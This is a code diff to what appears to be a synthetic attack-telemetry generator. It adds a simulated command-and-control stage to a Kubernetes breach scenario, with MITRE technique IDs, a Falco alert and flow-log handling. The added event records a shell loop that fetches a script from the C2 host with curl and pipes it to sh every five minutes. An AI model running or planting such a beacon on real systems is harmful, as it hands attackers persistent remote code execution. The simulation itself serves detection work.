@@ -809,7 +809,12 @@ class _Breach:
         else:
             ents.update(node=self.node)
         sid = w.step("c2", f"Command-and-control beacons from {label}", phase="Command & Control", tactic="Command and Control",
-                     techniques=("T1071", "T1071.001", "T1573", "MS-TA9007"), start=t, end=t + dt.timedelta(minutes=25), **ents)
+                     techniques=("T1071", "T1071.001", "T1573", "MS-TA9007", "T1105", "T1059"), start=t - dt.timedelta(seconds=30),
+                     end=t + dt.timedelta(minutes=25), **ents)
+        if isinstance(src, Pod):  # the implant's loop, as a runtime sensor sees it start
+            w.process(t - dt.timedelta(seconds=20), src, "/bin/sh", f'-c "while :; do curl -fsk https://{self.c2}/t | sh; sleep 300; done"',
+                      parent="/usr/bin/containerd-shim", step=sid,
+                      falco=("Launch Ingress Remote File Copy Tools in Container", "Notice", f"Remote file copy tool launched (k8s.pod={src.name})"))
         for k in range(6):
             tk = t + dt.timedelta(minutes=5 * k, seconds=w.rng.uniform(0, 3))
             if isinstance(src, Pod):
@@ -820,7 +825,8 @@ class _Breach:
                 w.emitted.flows.append(Flow(tk + w.skew["flows"], src, self.c2, w.rng.randrange(32768, 60999), 443, src_host=src, step=sid))
         w.must("block", f"ip:{self.c2}", "command and control")
         w.attack_entity(self.c2)
-        self.hop(self.flow_origin(src), f"ip:{self.c2}")
+        if w.platform != "self-managed" or (isinstance(src, Pod) and not src.host_network):
+            self.hop(self.flow_origin(src), f"ip:{self.c2}")  # else no flow log sees it: a CNI log holds pod traffic only
 
     def flow_origin(self, src: Pod | str) -> str:
         """The graph node a flow from ``src`` can be pinned to: the pod when a CNI flow log names
